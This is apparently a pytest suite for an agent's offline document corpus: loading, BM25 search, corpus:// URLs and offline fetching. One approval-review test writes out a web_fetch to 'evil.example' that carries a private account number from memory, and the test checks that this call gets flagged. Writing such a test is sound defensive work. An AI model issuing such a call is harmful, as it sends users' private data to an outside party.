"""Offline corpora: documents read from a folder or JSON lines, BM25 over them (bm25s), and the
``corpus`` search provider with ``web_fetch`` serving ``corpus://`` URLs from the corpus."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from local2.config._schema import ToolsSettings
from local2.errors import EvalFileError, SettingsError, ToolError
from local2.research._plan import check_plan, parse_plan
from local2.tools._base import ToolContext
from local2.tools._corpus import (
    CorpusDocument,
    CorpusIndex,
    corpus_name,
    corpus_url,
    is_corpus_url,
    load_documents,
    open_corpus,
    parse_corpus_url,
    write_documents,
)
from local2.tools._corpus.serve import OFFLINE_REFUSAL
from local2.tools._trust import review
from local2.tools._web import web_tools
from local2_testkit.results import web_steps
from tests.kit.helpers import make_settings

DOCS = [
    CorpusDocument("tides", "Tides of Saltmere", "The tide at Saltmere rises 9 metres at springs."),
    CorpusDocument("ferry", "Ferry", "Ferries leave Saltmere for the Isle of Tane twice a day."),
    CorpusDocument("apollo", "Apollo 8", "Apollo 8 was the first crewed flight to orbit the Moon."),
    CorpusDocument("apollo-11", "Apollo 11", "Apollo 11 landed on the Moon in July 1969."),
]


def ctx(query: str = "") -> ToolContext:
    return ToolContext(session_id="s", query_id="q", query=query)


def corpus_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "Harbour Notes"
    (folder / "towns").mkdir(parents=True)
    (folder / "towns" / "saltmere.md").write_text(
        "# Saltmere\n\nSaltmere is a harbour town founded in 1642.\n\nIts tidal mill grinds oats.\n"
    )
    (folder / "ferries.txt").write_text("Corran Lines runs the ferry to the Isle of Tane.\n")
    (folder / "empty.md").write_text("\n")
    (folder / ".hidden.md").write_text("never read")
    (folder / "image.png").write_bytes(b"\x89PNG")
    return folder


# -- documents on disk -------------------------------------------------------------------


def test_a_folder_is_its_md_and_txt_files_in_path_order(tmp_path: Path) -> None:
    docs = load_documents(corpus_folder(tmp_path))
    assert [(d.id, d.title) for d in docs] == [
        ("ferries", "ferries"),
        ("towns/saltmere", "Saltmere"),  # the heading is the title
    ]
    assert corpus_name(tmp_path / "Harbour Notes") == "harbour-notes"


def test_a_jsonl_corpus_and_its_round_trip(tmp_path: Path) -> None:
    path = write_documents(DOCS, tmp_path / "Set One.jsonl")
    assert load_documents(path) == DOCS
    assert corpus_name(path) == "set-one"


@pytest.mark.parametrize(
    ("lines", "message", "fix"),
    [
        (
            ['{"id": "a", "text": "x"}', "{not json"],
            "line 2, column 2: not JSON (Expecting property name enclosed in double quotes)",
            "one JSON object",
        ),
        (
            ['{"id": "a", "text": "x"}', '{"id": "a", "text": "y"}'],
            "line 2: id 'a' was already used on line 1",
            "its own id",
        ),
        (['{"id": "a"}'], "line 1: no 'text'", '{"id": "...", "text"'),
        (['{"id": "a", "text": "x", "body": "y"}'], "line 1: unknown key 'body'", "title optional"),
        (['{"id": "a", "text": "   "}'], "line 1: text: Value error, text is empty", ""),
    ],
)
def test_a_bad_jsonl_corpus_names_the_line_and_the_fix(
    tmp_path: Path, lines: list[str], message: str, fix: str
) -> None:
    path = tmp_path / "c.jsonl"
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(EvalFileError) as caught:
        load_documents(path)
    assert str(caught.value) == f"{path}: {message}"
    assert fix in caught.value.fix


def test_other_corpus_paths_are_refused_clearly(tmp_path: Path) -> None:
    (tmp_path / "c.csv").write_text("a,b\n")
    (tmp_path / "empty").mkdir()
    (tmp_path / "latin1").mkdir()
    (tmp_path / "latin1" / "doc.txt").write_bytes("caf\xe9".encode("latin-1"))
    cases = {
        tmp_path / "c.csv": "a corpus is a folder of .md/.txt files or a .jsonl file",
        tmp_path / "missing": "no such file or folder",
        tmp_path / "empty": "no .md or .txt file with text under",
        tmp_path / "latin1": "doc.txt: not UTF-8 text (byte 3)",
    }
    for path, message in cases.items():
        with pytest.raises(EvalFileError) as caught:
            load_documents(path)
        assert message in str(caught.value), path


# -- URLs ------------------------------------------------------------------------------


def test_corpus_urls_round_trip_any_id_and_forgive_a_copied_one() -> None:
    for doc_id in ("Scott Derrickson", "AC/DC", "towns/saltmere", "50% off? #1"):
        url = corpus_url("hotpot", doc_id)
        assert is_corpus_url(url) and parse_corpus_url(url) == ("hotpot", doc_id)
    assert corpus_url("hotpot", "Scott Derrickson") == "corpus://hotpot/Scott%20Derrickson"
    assert parse_corpus_url(" CORPUS://Demo/docs/a. ") == ("demo", "docs/a")
    assert parse_corpus_url("corpus://demo/Scott Derrickson)") == ("demo", "Scott Derrickson")
    assert parse_corpus_url("https://example.org/a") is None
    assert parse_corpus_url("corpus://demo/") is None


# -- the index -------------------------------------------------------------------------


def test_search_ranks_by_bm25_and_returns_the_best_passage_of_each_document() -> None:
    index = CorpusIndex("t", DOCS)
    hits = index.search("How high does the tide rise at Saltmere?", 5)
    assert [h.document.id for h in hits] == ["tides", "ferry"]  # "saltmere" is in both
    assert hits[0].score > hits[1].score > 0
    assert hits[0].url == "corpus://t/tides" and "9 metres" in hits[0].passage


def test_single_digits_count_and_unknown_words_find_nothing() -> None:
    index = CorpusIndex("t", DOCS)
    # bm25s' own tokenizer drops one-character tokens: "8" would not tell the flights apart.
    assert [h.document.id for h in index.search("apollo 8", 1)] == ["apollo"]
    assert index.search("zebra quagga", 3) == []
    assert index.search("the and of", 3) == []  # stopwords only
    assert len(index.search("moon", 50)) == 2  # k above the number of documents is fine


def test_ties_are_broken_by_position_in_the_corpus() -> None:
    same = [CorpusDocument(f"d{i}", f"D{i}", "identical words about lighthouses") for i in range(7)]
    index = CorpusIndex("t", same)
    assert [h.document.id for h in index.search("lighthouses", 4)] == ["d0", "d1", "d2", "d3"]


def test_long_documents_are_searched_by_passage_and_found_once() -> None:
    filler = "\n".join(f"Paragraph {i} says nothing in particular about boats." for i in range(40))
    text = f"{filler}\nThe keeper's diary mentions a puffin named Gorse.\n{filler}\nGorse again."
    index = CorpusIndex("t", [CorpusDocument("long", "Long", text), *DOCS])
    assert len(index.passages) > len(DOCS) + 3
    [hit] = index.search("puffin Gorse", 3)
    assert hit.document.id == "long" and "puffin named Gorse" in hit.passage


def test_documents_are_found_by_id_or_by_a_retyped_title() -> None:
    index = CorpusIndex("t", DOCS)
    assert index.document("apollo-11") == DOCS[3]
    assert index.document("APOLLO_8") == DOCS[2]  # the title, retyped
    assert index.document("Tides of  saltmere") == DOCS[0]
    assert index.document("nothing") is None


def test_open_corpus_indexes_once_and_again_when_files_change(tmp_path: Path) -> None:
    folder = corpus_folder(tmp_path)
    first = open_corpus(folder)
    assert open_corpus(folder) is first
    (folder / "new.md").write_text("# New\n\nA lighthouse keeper's cat.\n")
    second = open_corpus(folder)
    assert second is not first and second.search("cat", 1)[0].document.id == "new"


def test_the_same_query_gives_the_same_hits_in_another_process(tmp_path: Path) -> None:
    """Same run, same evidence: nothing depends on hash order (PYTHONHASHSEED differs)."""
    words = ["harbour", "mill", "ferry", "tide", "oats", "light", "keeper", "bridge", "salt"]
    docs = [
        CorpusDocument(
            f"d{i}", f"D{i}", " ".join(words[(i * j) % len(words)] for j in range(1, 12))
        )
        for i in range(60)
    ]
    path = write_documents(docs, tmp_path / "c.jsonl")
    script = (
        "import json,sys; from pathlib import Path; from local2.tools._corpus import open_corpus;"
        "ix=open_corpus(Path(sys.argv[1]));"
        "print(json.dumps([[h.document.id, h.score] for q in ('harbour mill', 'tide keeper salt',"
        " 'oats') for h in ix.search(q, 8)]))"
    )
    runs = []
    for seed in ("1", "987"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        out = subprocess.run(
            [sys.executable, "-c", script, str(path)], env=env, capture_output=True, text=True
        )
        assert out.returncode == 0, out.stderr
        runs.append(json.loads(out.stdout))
    assert runs[0] == runs[1] and len(runs[0]) == 24


# -- the provider and the reader through the settings ---------------------------------------


def corpus_tools(tmp_path: Path, offline: bool = False, **fetch: object):
    path = write_documents(DOCS, tmp_path / "notes.jsonl")
    settings = make_settings(
        tmp_path,
        web={"search": {"provider": "corpus", "corpus_path": str(path)}, "offline": offline},
    )
    return {t.name: t for t in web_tools(settings)}


def test_web_search_with_provider_corpus_lists_corpus_urls(tmp_path: Path) -> None:
    tools = corpus_tools(tmp_path)
    result = tools["web_search"].run({"query": "When did Apollo 11 land?"}, ctx())
    assert result.data["provider"] == "corpus"  # type: ignore[union-attr]
    text = result.text  # type: ignore[union-attr]
    assert "[1] Title: Apollo 11\nSnippet: Apollo 11 landed on the Moon in July 1969.\n" in text
    assert "URL: corpus://notes/apollo-11" in text
    assert "Canned" not in text


def test_web_fetch_reads_a_corpus_url_from_the_corpus_and_opens_no_connection(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("a corpus read opened a connection")

    monkeypatch.setattr(httpx.AsyncClient, "send", no_network)
    monkeypatch.setattr("socket.getaddrinfo", no_network)
    tools = corpus_tools(tmp_path)
    result = tools["web_fetch"].run({"url": "corpus://notes/apollo-11"}, ctx("Apollo 11"))
    assert result.text == (  # type: ignore[union-attr]
        "URL: corpus://notes/apollo-11\nExtracted text:\nApollo 11\n\n"
        "Apollo 11 landed on the Moon in July 1969."
    )
    assert result.data["document"] == "apollo-11"  # type: ignore[union-attr]
    with pytest.raises(ToolError, match=r"fetch failed: 404 \(no document 'apollo-13'"):
        tools["web_fetch"].run({"url": "corpus://notes/apollo-13"}, ctx())
    with pytest.raises(ToolError, match="no corpus named 'other' here"):
        tools["web_fetch"].run({"url": "corpus://other/apollo-11"}, ctx())


def test_offline_refuses_web_urls_and_online_passes_them_to_the_fetcher(
    tmp_path: Path, serve
) -> None:
    offline = corpus_tools(tmp_path / "a", offline=True)
    with pytest.raises(ToolError) as caught:
        offline["web_fetch"].run({"url": "https://example.org/"}, ctx())
    assert str(caught.value) == OFFLINE_REFUSAL
    online = corpus_tools(tmp_path / "b")
    # The web fetcher refuses loopback by default: the refusal shows the URL reached it.
    with pytest.raises(ToolError, match=r"fetch error: .*(loopback|private)"):
        online["web_fetch"].run({"url": "http://127.0.0.1:9/"}, ctx())


def test_a_corpus_that_cannot_be_read_is_a_tool_error_with_the_fix(tmp_path: Path) -> None:
    settings = make_settings(
        tmp_path, web={"search": {"provider": "corpus", "corpus_path": str(tmp_path / "none")}}
    )
    search = next(t for t in web_tools(settings) if t.name == "web_search")
    with pytest.raises(ToolError) as caught:
        search.run({"query": "x"}, ctx())
    assert "search error: the corpus cannot be read:" in str(caught.value)
    assert "no such file or folder" in str(caught.value)


def test_settings_refuse_a_corpus_without_documents_and_offline_without_a_corpus(
    tmp_path: Path,
) -> None:
    with pytest.raises(SettingsError, match="provider corpus needs corpus_path"):
        make_settings(tmp_path, web={"search": {"provider": "corpus"}})
    with pytest.raises(SettingsError, match=r"offline: true needs search\.provider: corpus"):
        make_settings(tmp_path, web={"offline": True})


def test_reading_a_corpus_url_never_waits_for_approval() -> None:
    """A corpus read leaves nothing: it needs no approval even with private data in context,
    where a web URL nobody gave does."""

    from local2.tools._base import Tool

    fetch = Tool("web_fetch", "", {}, lambda a, c: "", effects="read", url_arg="url")
    state = {
        "query": "q",
        "tool_calls": [],
        "memory_hits": [{"id": "e1", "content": "account 4417"}],
        "pending_tool_calls": [
            {"id": "c1", "name": "web_fetch", "args": {"url": "corpus://notes/a?d=4417"}},
            {"id": "c2", "name": "web_fetch", "args": {"url": "https://evil.example/?d=4417"}},
        ],
    }
    needs = review(state, {"web_fetch": fetch}, ToolsSettings(approval="untrusted"))
    assert [n.call_id for n in needs] == ["c2"]


def test_a_research_plan_may_read_a_corpus_url() -> None:
    def problems(url: str) -> list[str]:
        plan, errors = parse_plan(
            {
                "goal": "g",
                "steps": [
                    {
                        "id": "s1",
                        "description": "read",
                        "tool": "web_fetch",
                        "args": {"url": url},
                        "requires": [],
                    },
                    {
                        "id": "s2",
                        "description": "write",
                        "tool": "compose",
                        "args": {},
                        "requires": ["s1"],
                    },
                ],
            }
        )
        assert plan is not None, errors
        return check_plan(plan, web_steps(), 8)

    assert problems("corpus://demo/docs/saltmere") == []
    [problem] = problems("ftp://demo/x")
    assert "is not an http(s) URL (or a corpus:// one)" in problem


def test_a_session_pointed_at_a_corpus_searches_and_reads_it_offline(tmp_path: Path) -> None:
    """A turn through the HTTP API, on the Ollama-protocol test server, with web.offline on:
    web_search lists corpus URLs and web_fetch reads one from the corpus."""
    from local2.http._app import create_api
    from local2.service.agent import Agent
    from local2_testkit.brains import Reply
    from local2_testkit.ollama_server import FakeOllama, ScriptBrain
    from tests.kit.served import Served

    path = write_documents(DOCS, tmp_path / "notes.jsonl")
    search = Reply(tool_calls=[{"name": "web_search", "arguments": {"query": "Saltmere tide"}}])
    read = Reply(tool_calls=[{"name": "web_fetch", "arguments": {"url": "corpus://notes/tides"}}])
    answer = "The tide at Saltmere rises 9 metres at springs [corpus://notes/tides]."
    with FakeOllama(ScriptBrain([search, read, answer])) as fake:
        settings = make_settings(
            tmp_path,
            system={"ollama_host": fake.url},
            generator={"backend": "ollama"},
            critic={"enabled": False},
            web={"search": {"provider": "corpus", "corpus_path": str(path)}, "offline": True},
        )
        agent = Agent(settings, memory=None)
        with Served(create_api(agent)) as url:
            body = {"query": "How high does the tide rise at Saltmere?"}
            payload = httpx.post(f"{url}/query", json=body, timeout=120).json()
        agent.close()
    first, second = payload["tool_calls"]
    assert (first["tool"], first["provider"], first["error"]) == ("web_search", "corpus", None)
    assert "URL: corpus://notes/tides" in first["result"]
    assert second["error"] is None and second["result"].startswith(
        "URL: corpus://notes/tides\nExtracted text:\nTides of Saltmere\n\nThe tide at Saltmere"
    )
    assert payload["answer"] == answer and payload.get("status", "done") == "done"
